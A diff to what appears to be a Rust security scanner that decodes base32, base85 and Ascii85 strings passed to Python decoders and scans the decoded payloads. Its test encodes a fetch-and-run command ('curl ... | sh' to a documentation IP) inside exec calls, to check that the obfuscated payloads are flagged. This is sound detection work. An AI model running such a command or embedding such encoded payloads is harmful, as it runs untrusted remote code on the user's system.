@@ -342,6 +342,12 @@ pub(crate) enum Role {
     Base64,
     /// Decodes hexadecimal text.
     Hex,
+    /// Decodes base32 text.
+    Base32,
+    /// Decodes base85 text (Python's `b85` alphabet).
+    Base85,
+    /// Decodes Ascii85 text.
+    Ascii85,
     /// `Buffer.from(text, encoding)`: decoded when the encoding is base64 or hex.
     BufferFrom,
     /// Imports the module its first argument names.
@@ -412,6 +418,10 @@ pub(crate) const MODELS: &[Model] = &[
     row(PY, "base64.standard_b64decode", Role::Base64),
     row(PY, "base64.urlsafe_b64decode", Role::Base64),
     row(PY, "binascii.a2b_base64", Role::Base64),
+    row(PY, "base64.b32decode", Role::Base32),
+    row(PY, "base64.b32hexdecode", Role::Base32),
+    row(PY, "base64.b85decode", Role::Base85),
+    row(PY, "base64.a85decode", Role::Ascii85),
     row(PY, "bytes.fromhex", Role::Hex),
     row(PY, "binascii.unhexlify", Role::Hex),
     row(JS, "atob", Role::Base64),
@@ -902,6 +912,29 @@ impl Interp<'_, '_> {
                     decode(role, &subject(), carried.secrets)
                 }
             }
+            Some(codec @ (Role::Base32 | Role::Base85 | Role::Ascii85)) => {
+                // Encodings the string scan does not try on its own: the decoded payload is
+                // scanned like source here.
+                let input = subject();
+                let mut out = Value::unknown_carrying(carried.secrets.clone());
+                for text in &input.texts {
+                    let (bytes, name) = match codec {
+                        Role::Base32 => (text::decode_base32(text), "base32"),
+                        Role::Base85 => (text::decode_base85(text, false), "base85"),
+                        _ => (text::decode_base85(text, true), "ascii85"),
+                    };
+                    let Some(bytes) = bytes else { continue };
+                    if bytes.len() >= 16 {
+                        text::scan_decoded(&bytes, name, at, self.sink);
+                    }
+                    if let Ok(decoded) = String::from_utf8(bytes)
+                        && out.texts.len() < MAX_ALTERNATIVES
+                    {
+                        out.texts.push(decoded);
+                    }
+                }
+                out
+            }
             Some(Role::Base64 | Role::Hex) => decode(role.unwrap_or(Role::Base64), &subject(), carried.secrets),
             Some(Role::Import) => match first.and_then(|f| f.texts.first()) {
                 Some(module) => Value::named(
@@ -1279,6 +1312,32 @@ mod tests {
         let (rules, _) = rules_of(Lang::Python, &python);
         assert!(rules.contains(&rules::CRED_SENSITIVE_PATH), "{rules:?}");
         assert!(rules.contains(&rules::CRED_EXFILTRATION), "{rules:?}");
+    }
+
+    #[test]
+    fn base32_and_base85_payloads_are_decoded_and_scanned() {
+        // "curl -s http://203.0.113.9/x | sh" in three encodings, each decoded at run time.
+        let cases = [
+            ("base64.b32decode", "MN2XE3BAFVZSA2DUORYDULZPGIYDGLRQFYYTCMZOHEXXQID4EBZWQ==="),
+            ("base64.b85decode", "V|8+DAT4tsXmoUNIxjCWFf%SNE-^7PE;%oFAbcQmXa"),
+            ("base64.a85decode", "@s)g.+>%XWBQS?83\\N-A0Jb=8/ho(:/ibS0+FG;QBE"),
+        ];
+        for (decoder, blob) in cases {
+            let body = vec![Stmt::Eval(call(
+                "exec",
+                vec![call(decoder, vec![Expr::Str(blob.into())])],
+            ))];
+            let (rules, _) = rules_of(Lang::Python, &body);
+            assert!(
+                rules.contains(&rules::EXEC_PIPE_TO_SHELL_RAW),
+                "{decoder}: {rules:?}"
+            );
+        }
+        assert_eq!(text::decode_base32("MZXW6==="), Some(b"foo".to_vec()));
+        assert_eq!(text::decode_base85("W^Zo", false), Some(b"foo".to_vec()));
+        assert_eq!(text::decode_base85("z", true), Some(vec![0; 4]));
+        assert_eq!(text::decode_base85("!!!", true).map(|v| v.len()), Some(2));
+        assert!(text::decode_base32("not base32!").is_none());
     }
 
     #[test]
